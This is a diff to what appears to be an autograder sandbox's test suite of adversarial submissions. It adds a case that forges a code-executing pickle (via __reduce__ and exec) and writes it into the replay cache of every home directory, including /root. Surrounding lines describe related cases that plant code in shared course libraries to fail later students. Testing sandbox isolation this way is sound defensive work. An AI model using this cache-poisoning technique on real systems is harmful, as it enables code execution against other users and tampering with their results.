@@ -552,6 +552,36 @@ for folder in folders:
     except OSError:
         pass"""
 
+# A parse of the shipped profile (labcore.kit.replay's cache) forged as a pickle that runs code when read, written
+# under the cache folder of every home the sandbox can name: its own (wiped after the job), the grader's (not bound)
+POISON_REPLAY_CACHE = """import os
+import pickle
+
+from labcore import profiles
+from labcore.kit import replay
+from day54 import replay as lesson_replay
+
+
+class _Poison:
+    def __reduce__(self):
+        return (exec, ("open('/tmp/zz-replay-cache-poisoned', 'w').write('read')",))
+
+
+_folder = profiles.profile_path("day54")
+_key = replay._cache_key(lesson_replay.from_exports, _folder, _folder / "results.json", replay._stamp(_folder))
+_body = pickle.dumps(_Poison())
+_whole = replay.CACHE_MAGIC + replay.hashlib.blake2b(_body, digest_size=replay.DIGEST_BYTES).digest() + _body
+_homes = {os.path.expanduser("~"), "/root"}
+_homes |= {os.path.join("/home", h) for h in (os.listdir("/home") if os.path.isdir("/home") else [])}
+for _home in _homes:
+    for _name in {_key or "none", "poisoned"}:
+        try:
+            os.makedirs(os.path.join(_home, ".cache/datamove-course/replay"), mode=0o700, exist_ok=True)
+            with open(os.path.join(_home, ".cache/datamove-course/replay", _name), "wb") as _out:
+                _out.write(_whole)
+        except OSError:
+            pass"""
+
 # The course's packages every sandbox binds (one folder a grading machine's local cluster shares among its workers):
 # remount them read-write and plant a line every later sandbox runs at import, failing whoever is graded after
 REWRITE_LIBRARY = """import os
@@ -1167,6 +1197,16 @@ def submissions(corpus: ModuleType) -> tuple:
             "trace either way: the binds' staying read-only is what stops it)",
             full(D),
             first_cell=PLANT_BYTECODE,
+        ),
+        Submission(
+            "d54-poisons-the-replay-cache",
+            D,
+            "a cell of its own first writes a parse of the shipped profile, forged as a pickle that runs code when "
+            "read, into the replay cache of every home it can name: the sandbox's own is emptied after the job, the "
+            "grader's is not there to write; no trusted process reads it, and the reference solutions after it keep "
+            "every point",
+            full(D),
+            first_cell=POISON_REPLAY_CACHE,
         ),
         Submission(
             "d54-rewrites-the-library",
